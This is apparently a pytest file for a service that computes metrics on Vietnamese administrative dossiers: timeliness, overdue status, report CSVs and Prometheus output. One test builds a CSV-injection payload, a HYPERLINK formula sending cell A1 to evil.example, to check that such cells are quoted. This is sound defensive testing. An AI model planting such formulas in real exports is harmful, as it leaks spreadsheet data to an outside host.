"""The metrics projection as plain Python: folding events, timeliness, overdue by time, the figures."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from prometheus_client import CollectorRegistry, generate_latest
from prometheus_client.registry import Collector

from services.metrics.exposition import UnitLabels, families, snapshot, text
from services.metrics.projection import (
    COUNTER_COLUMNS,
    FIGURES,
    TOTAL_COLUMNS,
    TOTALS_ROW,
    DossierFacts,
    OutOfOrder,
    StreamEvent,
    Tally,
    apply,
    contribution,
    counter_delta,
    fold,
    judge_timeliness,
)
from services.metrics.report import assemble
from shared.units import UnitRegistry
from shared.workcalendar import WorkingCalendar

VN = ZoneInfo("Asia/Ho_Chi_Minh")
RECEIVED_AT = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)  # Monday 09:00 in Hà Nội / HCMC
DUE_AT = datetime(2026, 3, 6, 10, 0, tzinfo=UTC)  # Friday 17:00 local
EIGHT_HOURS = WorkingCalendar().day_length  # the default calendar's working day: 28,800 s


def iso(moment: datetime | None) -> str | None:
    return None if moment is None else moment.isoformat()


def event(name: str, sequence: int, status: int, at: datetime, **extra) -> StreamEvent:
    data = {
        "code": "26734-260302-0001",
        "status": status,
        "procedure_code": "1.001193",
        "procedure_field": "civil_status",
        "receiving_unit": "26734",
        "handling_unit": "26734",
        "channel": 1,
        "return_method": 0,
        "received_at": iso(RECEIVED_AT),
        "due_at": iso(DUE_AT),
        "original_due_at": iso(DUE_AT),
        "occurred_at": iso(at),
    }
    data.update({k: iso(v) if isinstance(v, datetime) else v for k, v in extra.items()})
    return StreamEvent(name=name, sequence=sequence, time=at, data=data)


def received() -> DossierFacts:
    return apply(None, event("received", 1, 2, RECEIVED_AT), VN)


def resolved(at: datetime, **extra) -> DossierFacts:
    facts = apply(received(), event("processing_started", 2, 4, RECEIVED_AT + timedelta(hours=1)), VN)
    return apply(facts, event("resolved", 3, 9, at, resolved_at=at, **extra), VN)


def test_a_received_dossier_is_in_process_and_counts_once():
    facts = received()
    assert facts.is_received and facts.in_process
    assert facts.received_on.isoformat() == "2026-03-02"
    assert facts.last_sequence == 1
    counts = contribution(facts)
    assert counts["received"] == 1
    assert sum(counts.values()) == 1


def test_a_registered_or_refused_dossier_is_not_received():
    registered = apply(None, event("registered", 1, 1, RECEIVED_AT, received_at=None, due_at=None), VN)
    assert not registered.is_received and not registered.in_process
    refused = apply(registered, event("refused", 2, 3, RECEIVED_AT, received_at=None, due_at=None), VN)
    assert contribution(refused)["received"] == 0
    assert Tally().figures()["received"] == 0


def test_overdue_comes_with_the_passing_of_time_not_with_an_event():
    facts = received()
    assert not facts.is_overdue(DUE_AT - timedelta(minutes=1))
    assert facts.is_overdue(DUE_AT + timedelta(minutes=1))
    assert facts.standing(DUE_AT + timedelta(minutes=1)) == "overdue"


def test_a_stopped_clock_is_judged_when_it_stopped():
    before = apply(received(), event("supplement_requested", 2, 5, DUE_AT - timedelta(days=1)), VN)
    assert before.clock_stopped_at == DUE_AT - timedelta(days=1)
    assert before.clock_stops == 1 and before.supplements == 1
    # Weeks later, still waiting for the citizen: not the office's delay.
    assert not before.is_overdue(DUE_AT + timedelta(days=20))
    after = apply(received(), event("stopped", 2, 8, DUE_AT + timedelta(hours=1)), VN)
    assert after.is_overdue(DUE_AT + timedelta(hours=2))
    resumed = apply(after, event("resumed", 3, 4, DUE_AT + timedelta(days=2)), VN)
    assert resumed.clock_stopped_at is None and resumed.clock_stops == 1


def test_a_completed_supplement_restarts_the_clock_but_not_the_receipt_day():
    later = RECEIVED_AT + timedelta(days=10)
    facts = apply(received(), event("supplement_requested", 2, 5, RECEIVED_AT + timedelta(days=1)), VN)
    facts = apply(
        facts,
        event(
            "supplemented",
            3,
            4,
            later,
            received_at=later,
            due_at=later + timedelta(days=5),
            original_due_at=later + timedelta(days=5),
        ),
        VN,
    )
    assert facts.received_at == RECEIVED_AT
    assert facts.due_at == later + timedelta(days=5)
    assert facts.clock_stopped_at is None and not facts.is_overdue(later + timedelta(days=4))


@pytest.mark.parametrize(
    ("resolved_local", "expected"),
    [
        (datetime(2026, 3, 5, 16, 0, tzinfo=VN), "early"),
        (datetime(2026, 3, 6, 8, 0, tzinfo=VN), "on_time"),
        (datetime(2026, 3, 6, 23, 30, tzinfo=VN), "on_time"),  # the due date, by local date
        (datetime(2026, 3, 7, 0, 30, tzinfo=VN), "late"),  # still 6 March in UTC
    ],
)
def test_timeliness_compares_vietnam_local_dates(resolved_local, expected):
    assert judge_timeliness(resolved_local.astimezone(UTC), DUE_AT, "working_days", VN) == expected
    # Without timeliness on the event, the projection judges against original_due_at itself.
    assert resolved(resolved_local.astimezone(UTC)).timeliness == expected


def test_timeliness_sent_by_the_dossier_service_wins():
    facts = resolved(DUE_AT - timedelta(days=2), timeliness="late", working_days=2.5)
    assert facts.timeliness == "late"
    counts = contribution(facts)
    assert counts["resolved_late"] == 1 and counts["resolution_count"] == 1
    assert counts["resolution_microdays"] == 2_500_000
    assert [counts[f"resolution_le_{b}"] for b in (1, 3, 5, 10, 20)] == [0, 1, 1, 1, 1]


def test_an_apology_moves_the_appointment_but_not_the_judgement():
    new_due = DUE_AT + timedelta(days=3)
    facts = apply(received(), event("apologized", 2, 2, DUE_AT, due_at=new_due, new_due_at=new_due), VN)
    assert facts.due_at == new_due and facts.original_due_at == DUE_AT
    facts = apply(facts, event("resolved", 3, 9, new_due, resolved_at=new_due, original_due_at=DUE_AT), VN)
    assert facts.timeliness == "late"


def test_an_apologised_dossier_in_process_is_overdue_after_its_first_appointment():
    # due Fri 6 Mar 17:00 local; the apology (Thu 5 Mar) moves the appointment to Mon 9 Mar 17:00
    new_due = datetime(2026, 3, 9, 10, 0, tzinfo=UTC)
    apology = event("apologized", 2, 2, DUE_AT - timedelta(days=1), due_at=new_due, new_due_at=new_due)
    facts = apply(received(), apology, VN)
    assert facts.apologies == 1
    saturday = datetime(2026, 3, 7, 2, 0, tzinfo=UTC)  # after the first appointment, before the new one
    assert facts.is_overdue(saturday) and facts.standing(saturday) == "overdue"
    tally = Tally()
    tally.count(facts, saturday, None)
    assert (tally.in_process_overdue, tally.in_process_within_deadline) == (1, 0)
    # before the first appointment it is within deadline
    thursday = DUE_AT - timedelta(days=1)
    assert not facts.is_overdue(thursday) and facts.standing(thursday) == "within_deadline"


def test_an_apology_makes_the_fallback_judgement_late_even_before_the_due_date():
    # resolved on Thu 5 Mar, before the first appointment (Fri 6), without timeliness on the event:
    # the fallback must still say late, as the dossier service does
    apology = event("apologized", 2, 2, RECEIVED_AT + timedelta(days=1), due_at=DUE_AT + timedelta(days=3))
    facts = apply(received(), apology, VN)
    thursday = DUE_AT - timedelta(days=1)
    facts = apply(facts, event("resolved", 3, 9, thursday, resolved_at=thursday), VN)
    assert facts.timeliness == "late"


def test_return_by_post_and_the_counters_it_moves():
    facts = resolved(DUE_AT - timedelta(days=1), timeliness="early", working_days=3)
    returned = apply(facts, event("returned", 4, 10, DUE_AT, method="postal", returned_at=DUE_AT), VN)
    assert returned.returned_by == "postal" and returned.returned_at == DUE_AT
    assert counter_delta(facts, returned) == {"returned_postal": 1}
    assert counter_delta(None, returned)["received"] == 1
    assert set(counter_delta(None, returned)) <= set(COUNTER_COLUMNS)


def test_folding_out_of_order_is_refused():
    facts = received()
    with pytest.raises(OutOfOrder):
        apply(facts, event("resolved", 3, 9, DUE_AT), VN)
    with pytest.raises(OutOfOrder):
        apply(None, event("processing_started", 2, 4, DUE_AT), VN)


def test_the_same_history_folds_to_the_same_facts_whatever_the_redelivery():
    history = [
        event("received", 1, 2, RECEIVED_AT),
        event("processing_started", 2, 4, RECEIVED_AT + timedelta(hours=2)),
        event("resolved", 3, 9, DUE_AT, resolved_at=DUE_AT, timeliness="on_time", working_days=5),
    ]
    assert fold(None, history, VN) == fold(fold(None, history[:1], VN), history[1:], VN)


def test_progress_score_reads_withdrawn_as_returned_without_a_result():
    tally = Tally(
        received=10,
        decided_early=3,
        decided_on_time=2,
        decided_late=1,
        withdrawn=1,
        in_process_within_deadline=2,
        in_process_overdue=1,
        returned=5,
        rated=4,
        rated_not_satisfied=1,
    )
    figures = tally.figures()
    assert figures["progress_score"] == pytest.approx(20 * (2 + 3 + 2 + 1) / 10)
    assert figures["on_time_rate"] == pytest.approx(5 / 6)
    assert figures["satisfaction_rate"] == pytest.approx(5 / 6)
    assert figures["decided"] == 6
    assert set(figures) == set(FIGURES)


def test_rates_over_nothing_are_none_and_tallies_add_up():
    assert Tally().figures()["on_time_rate"] is None
    assert Tally().figures()["progress_score"] is None
    one, two = Tally(received=1, decided_early=1), Tally(received=2, in_process_overdue=2)
    assert (one + two).figures()["progress_score"] == pytest.approx(20 / 3)


def test_a_dossier_stands_in_exactly_one_bucket():
    now = DUE_AT + timedelta(days=1)
    for facts in (received(), resolved(DUE_AT), resolved(DUE_AT + timedelta(days=3))):
        tally = Tally()
        tally.count(facts, now)
        buckets = [getattr(tally, column) for column in Tally.STANDING_COLUMNS.values()]
        assert sum(buckets) == tally.received == 1


def test_report_groups_are_the_units_children_and_sum_to_the_total():
    registry = UnitRegistry.default()
    communes = [unit.code for unit in registry.children("79")[:2]]
    rows = [(communes[0], Tally(received=2)), (communes[1], Tally(received=3)), ("79", Tally(received=1))]
    report = assemble(
        rows,
        unit="79",
        first=DUE_AT.date(),
        last=DUE_AT.date(),
        group_by="unit",
        as_of=DUE_AT,
        registry=registry,
    )
    assert [group.key for group in report.groups] == sorted([*communes, "79"])
    assert report.total.received == 6
    csv_lines = report.to_csv().splitlines()
    assert csv_lines[0].startswith("unit,name,received,")
    assert csv_lines[-1].startswith("total,")
    assert len(csv_lines) == 1 + 3 + 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_report_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(start):
    """OWASP CSV injection: a value that reached the report from an event opens as text, not a formula."""
    value = f'{start}HYPERLINK("http://evil.example/?x="&A1,"details")'
    rows = [(value, Tally(received=1)), ("civil_status", Tally(received=2))]
    report = assemble(
        rows,
        unit="79",
        first=DUE_AT.date(),
        last=DUE_AT.date(),
        group_by="procedure_field",
        as_of=DUE_AT,
        registry=UnitRegistry.default(),
    )
    parsed = list(csv.reader(io.StringIO(report.to_csv())))
    forged = next(
        row for row in parsed if row[0].endswith('HYPERLINK("http://evil.example/?x="&A1,"details")')
    )
    assert forged[0] == "'" + value and forged[1] == "'" + value
    assert forged[2] == "1"  # figures stay numbers
    assert parsed[-1][:3] == ["total", UnitRegistry.default().get("79").name, "3"]


class Row:
    def __init__(self, **values) -> None:
        self.__dict__.update(values)


def totals_row(unit: str, field: str, channel: int, **values) -> tuple:
    row = {"unit": unit, "procedure_field": field, "channel": channel, **dict.fromkeys(TOTAL_COLUMNS, 0)}
    row.update(values)
    return tuple(row[name] for name in TOTALS_ROW)


def test_unit_labels_follow_the_configured_depth():
    registry = UnitRegistry.default()
    commune = registry.children("79")[0].code
    assert UnitLabels(registry, 1)(commune) == "79"
    assert UnitLabels(registry, 2)(commune) == commune
    assert UnitLabels(registry, 2)("79") == "79"
    assert UnitLabels(registry, 2)("not-a-unit") == "not-a-unit"


def test_families_sum_units_to_the_label_depth_and_zero_fill_the_gauges():
    registry = UnitRegistry.default()
    a, b = (unit.code for unit in registry.children("79")[:2])
    two = {
        "resolution_count": 2,
        "resolution_microdays": 4_000_000,
        "resolution_le_3": 1,
        "resolution_le_5": 2,
    }
    two.update(resolution_le_10=2, resolution_le_20=2)
    one = {"resolution_count": 1, "resolution_microdays": 30_000_000}
    totals = [
        totals_row(a, "land", 1, received=3, resolved_early=2, **two),
        totals_row(b, "land", 2, received=1, resolved_late=1, **one),
    ]
    backlog = [Row(receiving_unit=b, procedure_field="land", in_process=4, overdue=1, due_soon=2)]
    by_name = {
        f.name: f for f in families(snapshot(totals, backlog, 0, UnitLabels(registry, 1), EIGHT_HOURS))
    }
    received = {tuple(s.labels.values()): s.value for s in by_name["motcua_dossiers_received"].samples}
    assert received == {("79", "counter"): 3, ("79", "online"): 1}
    resolution = by_name["motcua_dossier_resolution_working_seconds"].samples
    histogram = {s.labels.get("le"): s.value for s in resolution if s.name.endswith("_bucket")}
    # 1, 3, 5, 10 and 20 working days of 8 office hours, in seconds.
    assert histogram == {"28800.0": 0, "86400.0": 1, "144000.0": 2, "288000.0": 2, "576000.0": 2, "+Inf": 3}
    (total,) = (s.value for s in resolution if s.name.endswith("_sum"))
    assert total == 34 * 28_800  # 4 + 30 working days
    by_unit = {
        f.name: f for f in families(snapshot(totals, backlog, 0, UnitLabels(registry, 2), EIGHT_HOURS))
    }
    overdue = {tuple(s.labels.values()): s.value for s in by_unit["motcua_dossiers_overdue"].samples}
    assert overdue == {(a, "land"): 0, (b, "land"): 1}
    in_process = {s.labels["unit"]: s.value for s in by_unit["motcua_dossiers_in_process"].samples}
    assert in_process == {a: 0, b: 4}


def test_resolution_seconds_follow_the_calendars_day_length():
    assert EIGHT_HOURS.total_seconds() == 28_800
    registry = UnitRegistry.default()
    a = registry.children("79")[0].code
    totals = [totals_row(a, "land", 1, received=1, resolution_count=1, resolution_microdays=1_500_000)]
    short_days = WorkingCalendar(sessions=[("08:00", "12:00"), ("13:00", "16:30")]).day_length
    samples = next(
        f.samples
        for f in families(snapshot(totals, [], 0, UnitLabels(registry, 2), short_days))
        if f.name == "motcua_dossier_resolution_working_seconds"
    )
    bounds = [s.labels["le"] for s in samples if s.name.endswith("_bucket")]
    assert bounds == ["27000.0", "81000.0", "135000.0", "270000.0", "540000.0", "+Inf"]
    assert next(s.value for s in samples if s.name.endswith("_sum")) == 1.5 * 27_000


def test_the_fast_text_format_is_what_prometheus_client_writes():
    registry = UnitRegistry.default()
    a = registry.children("79")[0].code
    totals = [
        totals_row(
            a, "land", 1, received=3, resolved_early=2, resolution_count=2, resolution_microdays=1_234_567
        ),
        totals_row('odd"unit\\with\nbreaks', "civil_status", 3, received=1, rated_normal=1, supplements=2),
    ]
    backlog = [Row(receiving_unit=a, procedure_field="land", in_process=4, overdue=1, due_soon=2)]
    labels = UnitLabels(registry, 2)

    class Fixed(Collector):
        def collect(self):
            return families(snapshot(totals, backlog, 3, labels, EIGHT_HOURS))

    expected = CollectorRegistry(auto_describe=False)
    expected.register(Fixed())
    assert text(snapshot(totals, backlog, 3, labels, EIGHT_HOURS)) == generate_latest(expected).decode()
